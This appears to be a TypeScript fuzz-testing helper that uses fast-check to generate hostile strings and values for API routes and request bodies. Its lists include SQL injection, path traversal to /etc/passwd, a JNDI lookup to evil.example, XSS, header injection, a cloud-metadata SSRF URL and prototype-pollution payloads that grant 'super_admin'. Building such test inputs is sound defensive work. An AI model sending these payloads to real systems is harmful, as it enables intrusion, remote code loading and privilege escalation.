import fc from 'fast-check';

/** A number in its JSON spelling, which JSON.stringify would not produce: `1e400`, `-0`. */
export class RawNumber {
  readonly text: string;
  constructor(text: string) {
    this.text = text;
  }
}

/** Lists and objects in each other, this many deep. */
export function nested(depth: number): unknown {
  let value: unknown = 'core';
  for (let at = 0; at < depth; at += 1) value = at % 2 ? [value] : { a: value };
  return value;
}

const STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfff\ud800y',
  '\ufeff\u200b\u202e\u2066',
  'e\u0301\u0323'.repeat(400),
  '\ufdfa'.repeat(300),
  '👩‍👩‍👧‍👦'.repeat(200),
  'x'.repeat(100_000),
  `${'a'.repeat(50_000)}!`,
  '\n'.repeat(5000),
  '0'.repeat(400),
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  '-1',
  '9223372036854775808',
  '99999999999999999999999999',
  "' or 1=1 --",
  '%',
  '%00',
  '_',
  '\\',
  '../../../../etc/passwd',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '$' + '{jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  'line\r\nSet-Cookie: a=b',
  '2026-02-30',
  '0000-00-00',
  '0001-01-01',
  '9999-12-31',
  '9999-12-31T23:59:59.999Z',
  '2026-13-01T25:61:61Z',
  '-000001-01-01T00:00:00Z',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'http://169.254.169.254/latest/meta-data',
  'file:///etc/passwd',
  'eyJ0IjoiMjAyNiJ9',
  'W10=',
  'bnVsbA==',
];

const OTHERS = [
  null,
  true,
  0,
  -1,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53 + 2,
  new RawNumber('-0'),
  new RawNumber('1e400'),
  new RawNumber('-1e400'),
  new RawNumber('1e-400'),
  new RawNumber('9'.repeat(400)),
  [],
  {},
  [[]],
  [null],
  nested(400),
  Array.from({ length: 3000 }, (_, at) => at),
  ownKeys({ ['__proto__']: { role: 'super_admin' } }),
  ownKeys({ constructor: { prototype: { role: 'super_admin' } } }),
];

/** An object with own keys only, `__proto__` included. */
export function ownKeys(value: object): object {
  return Object.fromEntries(Object.entries(value));
}

/** Any code point that is no surrogate. fast-check's unit `binary` builds a map of all 1.1 million, in seconds. */
const codePoint = fc.integer({ min: 0, max: 0x10ffff - 0x800 }).map(
  (place) => String.fromCodePoint(place < 0xd800 ? place : place + 0x800),
  (text) => {
    const point = typeof text === 'string' ? text.codePointAt(0) : undefined;
    if (point === undefined || String.fromCodePoint(point) !== text)
      throw new Error('not one code point');
    return point < 0xd800 ? point : point - 0x800;
  },
);

/** Strings for addresses that no route expects. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: codePoint, maxLength: 60 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.nat(0xffff), { maxLength: 40 })
      .map((units) => String.fromCharCode(...units)),
  },
);

/** Values for bodies. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...OTHERS) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 4 }) },
  { weight: 1, arbitrary: fc.double() },
);
